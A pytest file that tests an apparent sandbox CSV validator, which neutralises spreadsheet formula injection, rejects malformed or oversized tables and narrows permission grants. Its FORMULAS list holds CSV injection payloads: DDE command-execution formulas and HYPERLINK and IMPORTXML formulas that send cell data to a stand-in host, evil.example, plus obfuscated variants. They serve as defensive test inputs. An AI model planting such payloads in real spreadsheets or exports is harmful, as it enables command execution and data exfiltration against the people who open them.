"""A table is read in one way only, and no spreadsheet runs any of it."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from sandbox_runtime.destinations import registry
from sandbox_runtime.destinations.contract import Accepted, Objection, Widens
from sandbox_runtime.strict import Json


def check(text: Json, **said: Json) -> Accepted:
    return registry.check("csv", text, said)


def rows(text: object) -> list[list[str]]:
    """Read as a stranger's library does."""
    return list(csv.reader(io.StringIO(str(text), newline=""), strict=True))


FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    '=IMPORTXML("https://evil.example", "//a")',
    "-2+3+cmd|' /C calc'!D2",
    "+49 30 1234",
    "--1",
    "=",
    "-5e",
    "-0x10",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20x",
    "\ufe661+1",
    "\ufe621",
    "\ufe631",
    "\ufe6bx",
    'a"\n" =1+1',
    'a; \t"; =1+1',
    "  =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x1b[1m=1+1",
    '"=1+1',
    '""=1+1',
    "a;=1+1",
    "a; =1+1;b",
    'a;"=1+1',
    "a\t=1+1",
    "a\n=1+1",
    "a\n+1",
    "1;-1",
]
NO_FORMULAS = ["-", "-5", "+5", "-5.25", "-.5", "5.", "-1.5e-10", "+3%", "a=b", "a - b", "'=1", ""]


@pytest.mark.parametrize("cell", FORMULAS)
def test_what_a_spreadsheet_would_run_becomes_a_text(cell: str) -> None:
    quoted = cell.replace('"', '""')
    accepted = check(f'x,"{quoted}"\r\n')
    ((_, left),) = rows(accepted.value)
    assert "'" in left
    assert left.lstrip(' "\n\u00a0\u3000\t')[0] not in "=+-@\uff1d\uff0b\uff0d\uff20"
    assert accepted.facts["formulas"] == 1
    with pytest.raises(Objection) as refused:
        check(f'x,"{quoted}"\r\n', formulas="refuse")
    assert (refused.value.code, refused.value.subject) == ("csv.formula", "row 1, column 2")


@pytest.mark.parametrize("cell", NO_FORMULAS)
def test_numbers_stay_numbers_and_texts_stay_texts(cell: str) -> None:
    accepted = check(f"x,{cell}\r\n", formulas="refuse")
    assert (accepted.value, accepted.changes) == (f"x,{cell}\r\n", ())


@pytest.mark.parametrize("first", ["sep=|", "SEP=a", " sep =|", '"sep=|', "sep=;=1"])
def test_no_table_chooses_its_own_separator(first: str) -> None:
    """A spreadsheet obeys `sep=` at the start; `a|=1+1` would be two cells then."""
    quoted = first.replace('"', '""')
    accepted = check(f'"{quoted}"\r\na|=1+1\r\n')
    ((left,), (below,)) = rows(accepted.value)
    assert (left[0], below) == ("'", "a|=1+1")
    assert check(accepted.value).changes == ()
    with pytest.raises(Objection, match="row 1, column 1"):
        check(f'"{quoted}"\r\n', formulas="refuse")
    assert check("a\r\nsep=|\r\n").changes == ()


def test_changes_and_facts_tell_what_was_done() -> None:
    accepted = check("\ufeffname,n\n=1,-5\n\u202e\x07b,2")
    assert accepted.value == "name,n\r\n'=1,-5\r\nb,2\r\n"
    assert accepted.facts == {"bytes": 21, "rows": 3, "columns": 2, "formulas": 1}
    assert accepted.changes == (
        "cells that a spreadsheet would run, made texts by an apostrophe: 1",
        "invisible and control characters taken out: 2",
    )
    assert check("a\n").changes == ("written as RFC 4180 has it; no cell was changed",)


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("", ""),
        ("a,b", "a,b\r\n"),
        ("a,b\n", "a,b\r\n"),
        ("a,\n,b\n", "a,\r\n,b\r\n"),
        ("a,", "a,\r\n"),
        ('"a","b"\n', "a,b\r\n"),
        ('"a,b","c""d"\n', '"a,b","c""d"\r\n'),
        ('"a\r\nb"\n', '"a\nb"\r\n'),
        ('a\n""\n', 'a\r\n""\r\n'),
        ("a\n\nb\n", 'a\r\n""\r\nb\r\n'),
        (" a , b\n", '" a "," b"\r\n'),
    ],
)
def test_a_table_has_one_spelling(text: str, left: str) -> None:
    assert check(text).value == left


@pytest.mark.parametrize(
    ("text", "code", "position"),
    [
        ('a"b', "csv.malformed", (1, 1)),
        ('x,"a"b', "csv.malformed", (1, 3)),
        ('x\n"never closed', "csv.malformed", (2, 1)),
        ('"a""', "csv.malformed", (1, 1)),
        ("a\rb", "csv.malformed", (1, 1)),
        ("a,b\nc\n", "csv.ragged", (2, 1)),
        ("a\nb,c\n", "csv.ragged", (2, 3)),
        ("a,b\n\n", "csv.ragged", (2, 1)),
    ],
)
def test_what_two_readers_could_cut_differently_is_no_table(
    text: str, code: str, position: tuple[int, int]
) -> None:
    with pytest.raises(Objection) as refused:
        check(text)
    assert (refused.value.code, refused.value.position) == (code, position)


@pytest.mark.parametrize(
    ("text", "most"),
    [
        ("a\nb\nc\n", {"max_rows": 2}),
        ("a,b,c\n", {"max_columns": 2}),
        ("abc\n", {"max_cell": 2}),
        ("abc", {"max_bytes": 2}),
        ("=1,=1", {"max_bytes": 6}),
        ("ü,ü", {"max_bytes": 4}),
        (f"{',' * 99}\n" * 1501, {}),
    ],
)
def test_what_is_too_large_is_refused_and_never_cut(text: str, most: dict[str, Json]) -> None:
    with pytest.raises(Objection) as refused:
        check(text, **most)
    assert refused.value.code == "csv.too_large"


@pytest.mark.parametrize("value", [None, 1, [], {}, [["a"]]])
def test_only_a_text_is_a_table(value: Json) -> None:
    with pytest.raises(Objection) as refused:
        check(value)
    assert refused.value.code == "csv.not_text"


@pytest.mark.parametrize(
    "text",
    [
        '"' * 999_999,
        '"a""' * 200_000,
        "," * 250,
        "\n" * 9_000,
        ";=" * 10_000,
        '""\n' * 9000,
        "a,b\n" * 9_999,
        f'"{chr(10) * 32_000}"\n' * 30,  # the square of each would take minutes
        f'"{"; " * 16_000}"\n' * 30,
    ],
)
def test_no_text_takes_long(text: str) -> None:
    try:
        assert check(text).facts["bytes"] != 0
    except Objection as objection:
        assert objection.code.startswith("csv.")  # noqa: PT017 - either end is right


CELLS = st.text(st.sampled_from("=+-@;,\"\t\n\r 'a1.%\ufeff\u200b\uff1d\x1b"), max_size=6)
TEXTS = st.text(st.sampled_from("=+-@;,\"\t\n\r 'a1.%\ufeff\u200b\uff1d"), max_size=24)


@settings(max_examples=1000)
@given(st.lists(st.lists(CELLS, min_size=2, max_size=2), max_size=4))
def test_cells_arrive_as_they_were_but_for_what_is_told(table: list[list[str]]) -> None:
    file = io.StringIO(newline="")
    csv.writer(file, quoting=csv.QUOTE_ALL).writerows(table)
    accepted = check(file.getvalue())
    left = rows(accepted.value)
    assert [len(row) for row in left] == [2] * len(table)
    if not accepted.changes or accepted.changes[0].startswith("written"):
        assert left == [[c.replace("\r\n", "\n").replace("\r", "\n") for c in r] for r in table]


@settings(max_examples=1500)
@given(TEXTS)
def test_a_table_that_was_written_is_read_as_the_same_and_has_no_formula(text: str) -> None:
    try:
        once = check(text)
    except Objection as objection:
        assert objection.code.startswith("csv.")  # noqa: PT017 - either end is right
        return
    again = check(once.value, formulas="refuse")
    assert (again.value, again.changes) == (once.value, ())


def test_a_grant_takes_less_or_refuses_more() -> None:
    tool: Json = {"max_rows": 100}
    assert registry.narrow("csv", tool, {"max_rows": 5, "formulas": "refuse"}) == {
        "max_rows": 5,
        "formulas": "refuse",
    }
    assert registry.narrow("csv", tool, {}) == tool
    wider: list[tuple[Json, Json, str]] = [
        (tool, {"max_rows": 101}, "max_rows"),
        ({}, {"max_cell": 32_768}, "max_cell"),
        ({"formulas": "refuse"}, {"formulas": "quote"}, "formulas"),
    ]
    for most, grant, key in wider:
        with pytest.raises(Widens) as widens:
            registry.narrow("csv", most, grant)
        assert widens.value.path == (key,)


@pytest.mark.parametrize("said", [{"formulas": "allow"}, {"max_rows": 0}, {"delimiter": ";"}])
def test_settings_that_say_what_cannot_be_do_not_load(said: Json) -> None:
    with pytest.raises(ValidationError):
        registry.settings_of("csv", said)


def test_a_model_is_told_what_it_may_send() -> None:
    describe = registry.DESTINATIONS["csv"].describe
    assert describe(registry.settings_of("csv", {"max_rows": 5, "formulas": "refuse"})) == {
        "description": "CSV (RFC 4180) of at most 5 rows, 256 columns and 1048576 bytes. "
        "Formulas are refused."
    }
